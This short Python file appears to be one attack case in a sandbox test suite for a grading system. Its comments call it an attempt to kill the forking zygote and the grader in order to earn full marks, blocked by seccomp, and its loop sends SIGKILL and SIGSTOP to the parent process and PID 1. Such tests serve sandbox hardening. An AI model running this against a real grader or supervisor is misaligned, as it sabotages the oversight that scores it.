# attack: kill the zygote that forked it, and the grader
# earns: 100
# stopped by: few system calls (seccomp)
import os
import signal

from honest import *

for pid in (os.getppid(), 1):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(pid, number)
            print("GOT", pid)
        except OSError:
            pass
